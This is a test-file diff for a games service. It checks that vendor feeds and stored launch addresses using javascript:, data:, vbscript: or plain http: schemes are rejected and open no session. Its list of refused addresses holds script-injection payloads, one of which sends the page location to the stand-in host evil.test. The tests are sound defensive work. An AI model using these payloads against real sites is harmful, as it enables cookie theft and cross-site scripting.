@@ -512,6 +512,81 @@ describe(GamesService.name, () => {
       });
       expect(response.json().code).toBe('GAME_LAUNCH_TARGET_MISSING');
     });
+
+    describe('addresses with a scheme other than https (decision 0028)', () => {
+      const BAD_ADDRESSES = [
+        'javascript:alert(document.cookie)//',
+        'JavaScript:fetch(`//evil.test?${location}`)',
+        'data:text/html,<script>alert(1)</script>',
+        'vbscript:msgbox(1)',
+        'http://games.vendor.example/launch',
+      ];
+      const vendorAddresses = async (code: string) => {
+        const result = (await t.app.db.execute(
+          sql`SELECT v.launch_url, v.small_icon, g.code, g.game_name, g.show_icon
+                FROM game_vendors v JOIN games g ON g.vendor_id = v.id WHERE v.code = ${code} ORDER BY g.id`,
+        )) as { rows: Record<string, string>[] };
+        return result.rows;
+      };
+
+      it('refuses a feed that names one, at its field, and changes nothing of the catalogue', async () => {
+        const before = await vendorAddresses('TESTV');
+        const fields: [string, (feed: ReturnType<typeof testVendorFeed>, value: string) => void][] = [
+          ['vendor.launchUrl', (feed, value) => (feed.vendor.launchUrl = value)],
+          ['vendor.smallIcon', (feed, value) => (feed.vendor.smallIcon = value)],
+          ['vendor.catalogueUrl', (feed, value) => (feed.vendor.catalogueUrl = value)],
+          ['games.1.showIcon', (feed, value) => (feed.games[1]!.showIcon = value)],
+        ];
+        for (const [path, write] of fields) {
+          for (const value of BAD_ADDRESSES) {
+            const feed = testVendorFeed('TESTV', 60);
+            feed.games[0]!.gameName = 'Renamed by a refused feed';
+            write(feed, value);
+            await expect(t.app.gaming.games.importFeed(feed), `${path} ${value}`).rejects.toMatchObject({
+              code: 'GAME_FEED_INVALID',
+              value: { issues: [{ path, message: expect.stringMatching(/^must be an https: URL/) }] },
+            });
+          }
+        }
+        const newcomer = testVendorFeed('SCHEMEV', 1);
+        newcomer.vendor.launchUrl = 'javascript:alert(1)';
+        await expect(t.app.gaming.games.importFeed(newcomer)).rejects.toMatchObject({ code: 'GAME_FEED_INVALID' });
+        expect(await t.app.gaming.games.hasVendor('SCHEMEV')).toBe(false);
+        expect(await vendorAddresses('TESTV')).toEqual(before);
+        const { authorization } = await signInTestMember(t.app);
+        expect((await launchFor(t.app, authorization)).url.origin).toBe('https://testv.vendor.test');
+      });
+
+      it('refuses to launch a game whose stored launch address has one, and opens no session', async () => {
+        await installTestVendor(t.app, 'OLDV', 1);
+        const { authorization } = await signInTestMember(t.app);
+        for (const value of BAD_ADDRESSES) {
+          // A row written before feeds were checked.
+          await t.app.db.execute(sql`UPDATE game_vendors SET launch_url = ${value} WHERE code = 'OLDV'`);
+          const response = await t.app.inject({
+            method: 'POST',
+            url: '/wps/game/launchGame',
+            headers: { authorization, language: 'EN' },
+            payload: { gameCode: 'G1', vassalage: 'OLDV' },
+          });
+          expect({ status: response.statusCode, body: response.json() }, value).toEqual({
+            status: 503,
+            body: {
+              success: false,
+              code: 'GAME_LAUNCH_URL_INVALID',
+              message: "This game cannot be opened: its vendor's address is not allowed. Please try other games.",
+            },
+          });
+          expect(response.body).not.toContain('sessionToken');
+        }
+        const sessions = (await t.app.db.execute(
+          sql`SELECT count(*)::int AS n FROM game_sessions s JOIN game_vendors v ON v.id = s.vendor_id
+               WHERE v.code = 'OLDV'`,
+        )) as { rows: { n: number }[] };
+        expect(sessions.rows[0]?.n).toBe(0);
+        expect((await get('/wps/relay/GCS_recentGame', authorization)).body.value.list).toEqual([]);
+      });
+    });
   });
 
   describe('bad input', () => {
